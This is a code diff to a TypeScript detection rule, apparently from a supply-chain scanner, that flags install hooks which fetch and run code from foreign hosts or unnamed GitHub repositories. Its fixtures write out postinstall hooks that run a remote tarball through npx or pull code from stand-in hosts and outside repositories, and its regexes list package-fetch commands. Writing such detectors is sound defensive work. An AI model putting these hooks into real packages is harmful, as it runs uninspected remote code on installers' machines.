@@ -4,6 +4,7 @@ import { isStranger, placeInWords, placeOf } from './behaviour/place.ts'
 import { isProgram, unasked } from './behaviour/written.ts'
 import { findingAt, opening, quote, severityOf } from './finding.ts'
 import type { RuleFinding } from './finding.ts'
+import { isForeignRepository, keeperOf } from './hosts/forge.ts'
 import { scopeOf } from './names/name-index.ts'
 
 type Starts = Extract<Fact, { kind: 'starts' }>
@@ -15,6 +16,9 @@ const installers =
 /** A package by its name, which a package manager fetches, or fetches and starts. */
 const byName =
   /\b(?:npm|pnpm|bun)(?:\.cmd)?\s+(?:-\S+\s+)*(?:i|install|add|exec|dlx|x|pack)\s+(?:-\S+\s+(?:[/.~\u0001]\S*\s+)?)*["']?((?:@[\w.-]+\/)?[a-z][\w.-]*)(?:@[\w.^~>=*:@/-]+)?["']?(?=\s|$)|\byarn\s+(?:global\s+)?(?:add|dlx)\s+(?:-\S+\s+)*["']?((?:@[\w.-]+\/)?[a-z][\w.-]*)|\b(?:npx|bunx|pnpx)(?:\.cmd)?\s+(?:-y|--yes)\s+(?:-\S+\s+)*["']?((?:@[\w.-]+\/)?[a-z][\w.-]*)(?:@[\w.^~>=*-]+)?["']?(?=\s|$)/i
+
+/** `npx github:owner/name` */
+const forgeSpec = /\s((?:github|gitlab|bitbucket):[\w-]+\/[\w.-]+)/i
 
 /** What is fetched as a whole and then started from its folder. */
 const cloning = /\bgit\s+(?:-\S+\s+\S+\s+){0,3}clone\s|\bsvn\s+(?:co|checkout)\s|\bhg\s+clone\s/
@@ -36,7 +40,10 @@ export const foreignInstall: Rule = {
       'it is imported, also: it tells one to install a package by name that is neither its own nor a dependency. What ' +
       'comes that way stands in no manifest and no lockfile, and nobody has inspected it.',
     references: ['nppacks (June to August 2026): tarballs of the author beside the registry'],
-    blindSpots: ['Addresses that are computed.', 'Repositories on the large forges.'],
+    blindSpots: [
+      'Addresses that are computed.',
+      'Repositories on the large forges, as soon as it is imported.',
+    ],
     examples: {
       flags: [
         {
@@ -44,6 +51,20 @@ export const foreignInstall: Rule = {
           files: {
             'package.json':
               '{"name":"a","version":"1.0.0","scripts":{"postinstall":"pip3 install --index-url http://pypi.helper.invalid/simple helper"}}',
+          },
+        },
+        {
+          title: 'a hook runs a tarball',
+          files: {
+            'package.json':
+              '{"name":"a","version":"1.0.0","scripts":{"postinstall":"npx --yes https://parts.helper.invalid/setup-1.0.0.tgz --silent"}}',
+          },
+        },
+        {
+          title: 'a hook runs what somebody keeps in a repository',
+          files: {
+            'package.json':
+              '{"name":"a","version":"1.0.0","repository":"github:a-team/a","scripts":{"postinstall":"npx -y github:other-people/setup"}}',
           },
         },
         {
@@ -85,6 +106,13 @@ export const foreignInstall: Rule = {
             'package.json': '{"name":"a","version":"1.0.0","bin":"cli.js"}',
             'cli.js':
               "#!/usr/bin/env node\nrequire('child_process').execFileSync('npm', ['install', process.argv[2]])\n",
+          },
+        },
+        {
+          title: 'a hook runs what its own keeper has in another repository',
+          files: {
+            'package.json':
+              '{"name":"a","version":"1.0.0","repository":"git+https://github.com/a-team/a.git","scripts":{"postinstall":"npx -y github:a-team/setup"}}',
           },
         },
         {
@@ -169,16 +197,29 @@ function report(
   inspection: Inspection,
   context: Context,
 ): readonly RuleFinding[] {
-  const place = placeOf(addresses, inspection, context)
-  if (!isStranger(place) || place.host === undefined) return []
   // What npx fetches runs at once.
   const runs = fact.phase === 'install' && /\b(?:npx|bunx|pnpx|exec|dlx)\s/.test(command)
+  const foreign = [...addresses, ...(forgeSpec.exec(command)?.slice(1) ?? [])].find(text =>
+    isForeignRepository(text, inspection.manifest),
+  )
+  if (foreign !== undefined && fact.phase === 'install' && (runs || clones))
+    return [ofRepository(fact, command, foreign)]
+  const place = placeOf(addresses, inspection, context)
+  if (!isStranger(place) || place.host === undefined) return []
   const grave = runs || place.kind === 'capture' || place.plain || (clones && fact.phase === 'install')
   const action: Action = grave ? 'block' : 'ask'
   const message =
     `${opening(fact)} runs ${quote(command, 120)}, which brings software from ${place.host.shown}, ${placeInWords(place)}, ` +
     `past everything that was inspected. Do not install this unless you know that host.`
   return [findingAt(fact.at, fact.phase, { action, severity: severityOf(action), message })]
+}
+
+/** Anybody can keep code there, and nothing of this package says that it is theirs. */
+function ofRepository(fact: Fact, command: Text, address: Text): RuleFinding {
+  const message =
+    `${opening(fact)} runs ${quote(command, 120)}: it fetches code from ${quote(keeperOf(address) ?? address)}, who is named nowhere in ` +
+    'its manifest, and runs it past everything that was inspected. Do not install this unless you know them.'
+  return findingAt(fact.at, fact.phase, { action: 'ask', severity: 'high', message })
 }
 
 /** Whether the same file also starts something: what was fetched, as a rule. */
